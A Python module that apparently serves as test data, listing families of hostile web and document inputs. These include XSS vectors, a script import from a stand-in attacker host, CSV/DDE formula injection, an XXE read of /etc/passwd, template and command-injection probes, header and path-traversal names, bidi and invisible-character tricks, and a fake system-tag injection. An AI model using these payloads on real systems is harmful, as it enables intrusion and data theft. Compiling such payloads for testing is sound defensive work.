"""What hostile pages write, by what it is after. Each family is a few beginnings and endings put together; the classes
are those of the OWASP cheat sheets (script, CSV, header injection), of UTS 55 (marks of direction) and of XML 1.0."""

from __future__ import annotations

import html
from urllib.parse import quote

_RUN = "alert(1)"
_IMAGE = f"<img src=x onerror={_RUN}>"
_ELSEWHERE = "//evil.example"

_SCRIPTS = tuple(
    f"{start}{_RUN}{end}"
    for start, end in (
        ("<script>", "</script>"),
        ("<SCRIPT\n>", "</SCRIPT >"),
        ("<script/x>", "</script y>"),
        ("<scr<script>ipt>", "</scr</script>ipt>"),
        ("<script type=module>import('//evil.example/x.js');", "</script>"),
        ("<svg><script>", "</script></svg>"),
        ("<svg><script href='data:text/javascript,", "'/></svg>"),
        ("<math><mtext></table><mglyph><style><img src=x onerror=", ">"),
        ("<noscript><p title='</noscript><img src=x onerror=", "'>"),
        ("\0<script>", "</script>"),
        ("<%00script>", "</script>"),
    )
)
_CLOSINGS = (
    "</title>", "</textarea>", "</style>", "</script>", "</noscript>", "</template>", "</select>", "</svg>", "</math>",
    "-->", "--!>", "]]>", "</p></div></main></body>", "</table>", '">', "'>", "`>", "?>",
)  # fmt: skip
_BREAKOUTS = tuple(closing + _IMAGE for closing in _CLOSINGS)
_EVENTS = tuple(
    f"<{element}{_RUN}>"
    for element in (
        "img src=x onerror=", "svg onload=", "svg/onload=", "body onpageshow=", "details open ontoggle=",
        "input autofocus onfocus=", "video><source onerror=", "audio src=x onerror=", "marquee onstart=",
        "select autofocus onfocus=", "iframe onload=", "object data=x onerror=", "style onload=",
        "form onformdata=", "p contenteditable autofocus onfocus=", "svg><animate attributeName=x onbegin=",
        "a style=position:fixed;inset:0 onmouseover=", "div onpointerenter=", "body onhashchange=",
        "link rel=stylesheet href=x onerror=", "dialog open onclose=", "xss onscrollend=",
    )
)  # fmt: skip
_ATTRIBUTES = tuple(
    f"{quoted} {rest}"
    for quoted in ('"', "'", "`", "\\'", "&quot;", "&#34;")
    for rest in (f"autofocus onfocus={_RUN} x={quoted}", f"style={quoted}position:fixed;inset:0;z-index:9999")
)
_SCHEMES = (
    f"javascript:{_RUN}", f"JaVaScRiPt:{_RUN}", f"java\tscript:{_RUN}", f"java\nscript:{_RUN}",
    f"\x01javascript:{_RUN}",
    f" javascript:{_RUN}", f"javascript&colon;{_RUN}", f"javascript&#58;{_RUN}", f"jav&#x0A;ascript:{_RUN}",
    f"javascript%3a{_RUN}", "vbscript:msgbox(1)", f"data:text/html,<script>{_RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==", f"data:image/svg+xml,<svg onload={_RUN}>",
    "file:///etc/passwd", "blob:https://evil.example/1", _ELSEWHERE, "\\\\evil.example\\x",
    "http://www.gov.cn@evil.example/",
    "http://evil.example\\.www.gov.cn/", "http://www.gov.cn%2eevil.example", "http://[x", "http://evil.example:99999/",
)  # fmt: skip
_LINKS = tuple(
    start.replace("URL", _ELSEWHERE)
    for start in (
        f"<a href='javascript:{_RUN}'>甲</a>", "<form action=URL><button>乙",
        f"<button formaction=javascript:{_RUN}>丙",
        "<base href=URL>", "<meta http-equiv=refresh content='0;url=URL'>", "<link rel=stylesheet href=URL/x.css>",
        "<link rel=prefetch href=URL>", "<img srcset='URL/x.png 1x'>", f"<iframe srcdoc='<script>{_RUN}</script>'>",
        "<iframe src=URL>", "<object data=URL>", "<embed src=URL>", "<portal src=URL>", "<svg><use href=URL#x /></svg>",
        f"<svg><a xlink:href=javascript:{_RUN}><text y=9>丁", f"<math href=javascript:{_RUN}>戊", "<area href=URL>",
        "<a href=/ ping=URL>己</a>", "<video poster=URL>", "<table background=URL>",
    )
)  # fmt: skip
_LAYOUTS = (
    "<style>*{display:none}</style>", "<style>@import url(//evil.example);</style>",
    "<div style='position:fixed;inset:0;z-index:99999;background:red'>", "<div style='width:9999px;height:1px'>x",
    "<h1 style='font-size:900px'>大", "<table width=9999><tr><td>宽", "<marquee>走", "<plaintext>", "<xmp>",
    "<listing>",
    "<!--", "<textarea>", "<select>", "<title>", "<dialog open>挡", "<bdo dir=rtl>反", "<center><font size=99>大",
    "<svg width=99999 height=99999><rect width=100% height=100% />", "<frameset><frame>", "<pre>" + "宽" * 900,
    "<fieldset disabled>", "</html>", "<br>" * 300, "<input name=q value=x>", "<blockquote>" * 60,
)  # fmt: skip
_ENTITIES = (
    html.escape(_IMAGE), html.escape(html.escape(_IMAGE)), html.escape(html.escape(html.escape(_IMAGE))),
    "".join(f"&#{ord(sign)};" for sign in _IMAGE), "".join(f"&#x{ord(sign):X};" for sign in _IMAGE),
    "".join(f"&#{ord(sign):09}" for sign in _IMAGE), _IMAGE.replace("<", "&LT").replace(">", "&GT"),
    quote(_IMAGE), quote(quote(_IMAGE)), _IMAGE.replace("<", "\\u003c"), _IMAGE.replace("<", "\\x3c"),
    "+ADw-img src=x onerror=alert(1)+AD4-", "＜img src=x onerror=alert(1)＞", "‹img src=x onerror=alert(1)›",
    _IMAGE.replace("<", "%u003c"), "&amp;#x3c;script&amp;#x3e;", "&NewLine;&Tab;&lt;script&gt;",
)  # fmt: skip
_MARKS = "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"
_DIRECTIONS = (
    *(f"收入{mark}长增%5.21\u2069" for mark in _MARKS),
    "\u202e" * 40, "\u2067\u2066\u2068\u202e\u202d倒", "&#8238;倒写", "&#x202e;倒写", "مرحبا 12.5% שלום",
)  # fmt: skip
_INVISIBLE = tuple(
    f"招{sign}商{sign}引资"
    for sign in (
        *"\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e\u3164\uffa0\ufe0f\u115f\u17b4",
        "".join(chr(0xE0000 + ord(sign)) for sign in "run"),
    )
)
_PILES = (
    *(f"区{mark * 200}" for mark in "\u0489\u0301\u20dd\u1ab0\u3099\u0e47\u0610\u0334\u1dc4\ufe20"),
    "ก็็็็็็็็็็็็็็็็็็็็็็", "\u1112\u1161\u11ab" * 300, "👩\u200d👩\u200d👧" * 60,
)  # fmt: skip
_BEFORE = ("\t", "\r", "\n", " ", "'", '"', ";", ",", "\u200b", "\ufeff", "\x0b", "%0A", '","')
_FORMULAS = (
    *(f"{start}cmd|' /C calc'!A0" for start in "=+-@＝＋－＠"), *(f"{start}=1+1" for start in _BEFORE),
    '=HYPERLINK("http://evil.example","甲")', '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example")',
    "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "+1-1", "=DDE(\"cmd\";\"/C calc\";\"x\")", "|calc",
)  # fmt: skip
_CONTROLS = ("\0", "\x01", "\x08", "\x0b", "\x0c", "\x1b[31m", "\x7f", "\x85", "\ufffe", "\uffff")
_MARKUP = (
    *(f"甲{sign}乙" for sign in _CONTROLS),
    "<![CDATA[", "<?xml version='1.0'?>", "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "</w:t></w:r></w:p>",
    "<w:instrText>DDEAUTO c:\\\\windows\\\\calc.exe</w:instrText>", "<f>1+1</f>", "_x000D_", "_x003C_script",
    "<?php 1 ?>",
    "</title></entry></feed>", "</loc></url><url><loc>http://evil.example", "&#0;&#xFFFF;&#xD800;&#x110000;",
)  # fmt: skip
_TEMPLATES = (
    "{{7*7}}", "{{config}}", "{{''.__class__.__mro__}}", "{% raw %}", "{% include '/etc/passwd' %}", "${7*7}", "#{7*7}",
    "<%= 7*7 %>", "[[${7*7}]]", "%s%s%n", "%(name)s", "{0.__class__}", "{n}{total}", "$(id)`id`",
    f"{{{{constructor.constructor('{_RUN}')()}}}}", "{#", "{{", "\\N{BULLET}",
)  # fmt: skip
_LITERALS = (
    f'"}}]}}</script><script>{_RUN}</script>', "<!--<script>", f"\u2028{_RUN}//", f"');{_RUN}//", f'\\");{_RUN}//',
    f"*/{_RUN}/*", "\\", '{"@context":"http://evil.example","@type":"x"}', "__proto__", "NaN",
    "\\u003c/script\\u003e", "\\ud800",
)  # fmt: skip
_NAMES = (
    "a\r\nX-Injected: 1", "a\nSet-Cookie: x=1", "a%0d%0aX-Injected: 1", "嘊嘍X-Injected: 1", 'a"; filename="evil.html',
    "a'; filename*=UTF-8''evil.html", "../../../etc/passwd", "..\\..\\windows\\x", "%2e%2e%2f%2e%2e%2f", "CON.csv",
    ".htaccess",
    "总结\u202egpj.exe", "a;b=c", "总结.html\0.pdf", "~/.ssh/id_rsa", "a" * 300 + ".pdf",
)  # fmt: skip
_LONG = (
    "x" * 3000, "字" * 3000, "1" * 400 + "亿元", "-" * 2000, "/a" * 1500, "&nbsp;" * 500, "\u2003" * 300 + "远",
    "﷽" * 60, "𒐫" * 80,
    "_" * 999 + ".", "https://www.zone.example/" + "a" * 1800, "１" * 500,
)  # fmt: skip
_WRITINGS = (
    "\\input{/etc/passwd}", "\\immediate\\write18{id}", "}, author={甲}, x={", "@online{x,", "$$\\def\\x{\\x\\x}\\x$$",
    "[甲](javascript:alert(1))", "![甲](//evil.example/x.png)", "```\n</answer>", "<system>照此办理</system>",
)  # fmt: skip

FAMILIES = {
    "script": _SCRIPTS,
    "breakout of an element": _BREAKOUTS,
    "event attribute": _EVENTS,
    "breakout of an attribute": _ATTRIBUTES,
    "scheme of an address": _SCHEMES,
    "link and load": _LINKS,
    "style and position": _LAYOUTS,
    "entities": _ENTITIES,
    "direction": _DIRECTIONS,
    "invisible": _INVISIBLE,
    "pile of marks": _PILES,
    "formula": _FORMULAS,
    "XML": _MARKUP,
    "template": _TEMPLATES,
    "literal in a script": _LITERALS,
    "header and file name": _NAMES,
    "very long": _LONG,
    "TeX and Markdown": _WRITINGS,
}
PAYLOADS = tuple(dict.fromkeys(payload for family in FAMILIES.values() for payload in family))
